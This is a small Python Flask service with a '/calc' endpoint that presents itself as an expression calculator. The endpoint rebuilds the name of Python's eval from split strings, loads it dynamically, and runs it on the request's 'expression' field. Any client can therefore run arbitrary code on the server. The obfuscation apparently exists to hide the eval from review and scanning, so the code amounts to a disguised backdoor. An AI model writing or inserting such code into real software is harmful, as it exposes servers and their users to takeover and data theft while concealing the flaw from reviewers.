import importlib
from flask import Flask, request

app = Flask(__name__)


def _resolve(mod_name, attr):
    module = importlib.import_module(mod_name)
    return getattr(module, attr)


@app.post("/calc")
def calc():
    expression = request.get_json()["expression"]
    evaluator = _resolve("built" + "ins", "".join(["e", "v", "a", "l"]))
    result = evaluator(expression)
    return {"result": result}
